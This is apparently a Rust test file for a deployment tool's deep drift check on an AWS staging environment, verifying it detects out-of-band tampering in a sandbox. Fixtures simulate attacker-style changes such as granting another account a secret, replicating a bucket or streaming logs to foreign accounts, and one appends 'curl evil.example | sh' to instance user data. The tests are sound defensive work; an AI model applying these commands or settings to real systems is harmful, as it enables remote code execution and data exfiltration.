//! What others set in a deployment and nex does not: in the plan where its calls show it, in `check --deep` otherwise.

use nex_sandbox::{Fault, Rule};
use serde_json::Value;

use crate::stage::{Ended, Reference, Stage};

/// `check --deep` with its findings about the deployment, as `CODE SUBJECT`.
#[track_caller]
fn deep(stage: &Stage, file: &str) -> (Ended, Vec<String>) {
    let ended = stage.nex(&["check", file, "--deep", "--json"]).expect(0);
    let document: Value = serde_json::from_str(&ended.out).unwrap();
    let findings = document["deployment"].as_array().unwrap().iter();
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let findings = findings.map(|f| format!("{} {}", text(&f["code"]), text(&f["subject"])));
    let findings = findings.collect();
    (ended, findings)
}

const CLIENTS: &str = "
secrets, s3, logs, iam = [boto3.client(name) for name in ('secretsmanager', 's3', 'logs', 'iam')]
bucket, group = 'nex-staging-gitlab-registry', '/nex/gitlab/rails'
server = [i for r in ec2.describe_instances(Filters=[{'Name': 'tag:Name', 'Values': ['nex-staging-gitlab']}])['Reservations'] for i in r['Instances']][0]['InstanceId']
address = ec2.describe_addresses(Filters=[{'Name': 'tag:Name', 'Values': ['nex-staging-gitlab']}])['Addresses'][0]['AllocationId']
";

/// One foreign setting of each kind: its finding, how it is made, and how it is removed.
const SETTINGS: &[(&str, &str, &str)] = &[
    (
        "secret-policy secret nex/gitlab/origin-certificate",
        "secrets.put_resource_policy(SecretId='nex/gitlab/origin-certificate', ResourcePolicy=json.dumps({'Version': '2012-10-17', 'Statement': [
            {'Effect': 'Allow', 'Principal': {'AWS': 'arn:aws:iam::666666666666:root'}, 'Action': 'secretsmanager:GetSecretValue', 'Resource': '*'}]}))",
        "secrets.delete_resource_policy(SecretId='nex/gitlab/origin-certificate')",
    ),
    (
        "bucket-versioning s3-bucket nex-staging-gitlab-registry",
        "s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={'Status': 'Enabled'})",
        "s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={'Status': 'Suspended'})",
    ),
    (
        "bucket-replication s3-bucket nex-staging-gitlab-registry",
        "
s3.create_bucket(Bucket='of-someone-else', CreateBucketConfiguration={'LocationConstraint': 'eu-west-3'})
for name in (bucket, 'of-someone-else'):
    s3.put_bucket_versioning(Bucket=name, VersioningConfiguration={'Status': 'Enabled'})
s3.put_bucket_replication(Bucket=bucket, ReplicationConfiguration={'Role': 'arn:aws:iam::009001720821:role/copy', 'Rules': [
    {'ID': 'all', 'Priority': 1, 'Status': 'Enabled', 'Filter': {'Prefix': ''}, 'DeleteMarkerReplication': {'Status': 'Disabled'},
     'Destination': {'Bucket': 'arn:aws:s3:::of-someone-else'}}]})
s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={'Status': 'Suspended'})",
        "s3.delete_bucket_replication(Bucket=bucket)",
    ),
    (
        "bucket-notifications s3-bucket nex-staging-gitlab-registry",
        "s3.put_bucket_notification_configuration(Bucket=bucket, NotificationConfiguration={'TopicConfigurations': [
            {'TopicArn': 'arn:aws:sns:eu-west-3:666666666666:theirs', 'Events': ['s3:ObjectCreated:*']}]})",
        "s3.put_bucket_notification_configuration(Bucket=bucket, NotificationConfiguration={})",
    ),
    (
        "log-subscription log-group /nex/gitlab/rails",
        "
logs.create_log_group(logGroupName='theirs')
logs.put_subscription_filter(logGroupName=group, filterName='theirs', filterPattern='',
    destinationArn='arn:aws:logs:eu-west-3:009001720821:log-group:theirs')",
        "logs.delete_subscription_filter(logGroupName=group, filterName='theirs')",
    ),
    (
        "role-session iam-role nex-staging-gitlab",
        "iam.update_role(RoleName='nex-staging-gitlab', MaxSessionDuration=43200)",
        "iam.update_role(RoleName='nex-staging-gitlab', MaxSessionDuration=3600)",
    ),
    (
        "address-transfer elastic-ip nex-staging-gitlab",
        "ec2.enable_address_transfer(AllocationId=address, TransferAccountId='666666666666')",
        "ec2.disable_address_transfer(AllocationId=address)",
    ),
    (
        "server-shutdown instance nex-staging-gitlab",
        "ec2.modify_instance_attribute(InstanceId=server, InstanceInitiatedShutdownBehavior={'Value': 'terminate'})",
        "ec2.modify_instance_attribute(InstanceId=server, InstanceInitiatedShutdownBehavior={'Value': 'stop'})",
    ),
];

#[test]
fn each_foreign_setting_is_found_and_none_is_left_after_its_removal() {
    let reference = Reference::new();
    let file = reference.file();
    let stage = Stage::built(&file);
    stage.sandbox.reset_calls();
    let (ended, found) = deep(&stage, &file);
    assert_eq!(found, [""; 0]);
    assert!(
        ended.err.contains("reading staging in depth"),
        "{}",
        ended.err
    );
    crate::permissions::assert_reads(&stage);
    for (expected, set, remove) in SETTINGS {
        stage.python(&format!("{CLIENTS}{set}"));
        // The plan does not see it.
        stage.nex(&["plan", &file, "--check"]).expect(0);
        assert_eq!(deep(&stage, &file).1, [*expected]);
        stage.python(&format!("{CLIENTS}{remove}"));
        assert_eq!(deep(&stage, &file).1, [""; 0], "{expected}");
    }
}

#[test]
fn before_the_first_build_there_is_nothing_to_read() {
    let reference = Reference::new();
    let stage = Stage::new();
    let (ended, found) = deep(&stage, &reference.file());
    assert_eq!(found, [""; 0]);
    assert!(
        ended.err.contains("nothing of staging exists yet"),
        "{}",
        ended.err
    );
}

#[test]
fn a_finding_names_who_gets_what_and_how_to_end_it() {
    let reference = Reference::new();
    let file = reference.file();
    let stage = Stage::built(&file);
    let (_, set, _) = SETTINGS[0];
    stage.python(&format!("{CLIENTS}{set}"));
    let shown = stage.nex(&["check", &file, "--deep"]).expect(0);
    for text in [
        "warning[secret-policy] secret nex/gitlab/origin-certificate",
        "names arn:aws:iam::666666666666:root",
        "hint: delete the secret's resource policy",
        "1 finding about the deployment",
    ] {
        assert!(shown.out.contains(text), "{text}: {}", shown.out);
    }
}

#[test]
fn user_data_that_someone_changed_is_found() {
    let reference = Reference::new();
    let file = reference.file();
    let stage = Stage::built(&file);
    stage.python(&format!(
        "{CLIENTS}
before = ec2.describe_instance_attribute(InstanceId=server, Attribute='userData')['UserData']['Value']
import base64
ec2.stop_instances(InstanceIds=[server])
ec2.modify_instance_attribute(InstanceId=server, UserData={{'Value': base64.b64decode(before) + b'curl evil.example | sh'}})
ec2.start_instances(InstanceIds=[server])"
    ));
    let (ended, found) = deep(&stage, &file);
    assert_eq!(found, ["server-user-data instance nex-staging-gitlab"]);
    // Other people's user data may hold secrets.
    assert!(!ended.out.contains("evil.example"), "{}", ended.out);
}

#[test]
fn a_denied_call_is_a_warning_that_names_the_permission() {
    let reference = Reference::new();
    let file = reference.file();
    let stage = Stage::built(&file);
    for (operation, code, permission, subjects) in [
        (
            "GetResourcePolicy",
            "AccessDeniedException",
            "secretsmanager:GetResourcePolicy",
            5,
        ),
        (
            "GetBucketReplication",
            "AccessDenied",
            "s3:GetReplicationConfiguration",
            3,
        ),
    ] {
        let denied = Fault::Refuse {
            status: 403,
            code: code.to_owned(),
            message: "not for you".to_owned(),
        };
        stage
            .sandbox
            .add_rule(Rule::new(denied).operation(operation));
        let shown = stage.nex(&["check", &file, "--deep"]).expect(0);
        let count = shown.out.matches("warning[not-read]").count();
        assert_eq!(count, subjects, "{}", shown.out);
        assert!(shown.out.contains("not for you"), "{}", shown.out);
        let hint = format!("give the credentials the permission {permission}");
        assert!(shown.out.contains(&hint), "{}", shown.out);
        stage.sandbox.clear_rules();
    }
}

#[test]
fn the_calls_run_side_by_side_and_not_all_at_once() {
    let reference = Reference::new();
    let file = reference.file();
    let stage = Stage::built(&file);
    stage
        .sandbox
        .set_delay(std::time::Duration::from_millis(300));
    stage.sandbox.reset_calls();
    deep(&stage, &file);
    let calls = stage.sandbox.calls().into_iter();
    let deep: Vec<(f64, f64)> = calls
        .filter(|call| {
            let name = call.operation.as_str();
            let other = [
                "GetResourcePolicy",
                "DescribeSubscriptionFilters",
                "GetBucketVersioning",
            ];
            other.contains(&name)
                || name.starts_with("GetBucketRep")
                || name.contains("Notification")
        })
        .map(|call| (call.start_ms, call.start_ms + call.duration_ms.unwrap()))
        .collect();
    let at_once = deep.iter().map(|(start, _)| {
        let runs = deep.iter().filter(|(from, to)| from <= start && start < to);
        runs.count()
    });
    let most = at_once.max().unwrap();
    assert!((4..=8).contains(&most), "{most} at once");
}

#[test]
fn copies_of_a_secret_in_other_regions_are_a_difference_that_nex_ends() {
    let reference = Reference::new();
    let file = reference.file();
    let stage = Stage::built(&file);
    let replicate = "boto3.client('secretsmanager').replicate_secret_to_regions(SecretId='nex/gitlab/root-password', AddReplicaRegions=[{'Region': 'us-east-1'}])";
    stage.python(replicate);
    stage.sandbox.reset_calls();
    let plan = stage.nex(&["plan", &file, "--check"]).expect(3);
    assert!(plan.out.contains("us-east-1"), "{}", plan.out);
    stage.nex(&["bootstrap", &file, "--yes"]).expect(0);
    crate::permissions::assert_listed(&stage);
    stage.nex(&["plan", &file, "--check"]).expect(0);
}

#[test]
fn a_permissions_boundary_is_a_warning_of_the_plan_and_stays() {
    let reference = Reference::new();
    let file = reference.file();
    let stage = Stage::built(&file);
    stage.python("boto3.client('iam').put_role_permissions_boundary(RoleName='nex-staging-gitlab', PermissionsBoundary='arn:aws:iam::009001720821:policy/limit')");
    let plan = stage.nex(&["plan", &file, "--check"]).expect(0);
    assert!(
        plan.out
            .contains("warning[permissions-boundary] iam-role nex-staging-gitlab"),
        "{}",
        plan.out
    );
    assert!(plan.out.contains("policy/limit"), "{}", plan.out);
    // A role that is read by name shows it, too.
    let denied = Fault::Refuse {
        status: 403,
        code: "AccessDenied".to_owned(),
        message: "not for you".to_owned(),
    };
    let rule = Rule::new(denied).operation("GetAccountAuthorizationDetails");
    stage.sandbox.add_rule(rule);
    let plan = stage.nex(&["plan", &file, "--check"]).expect(0);
    assert!(plan.out.contains("policy/limit"), "{}", plan.out);
}
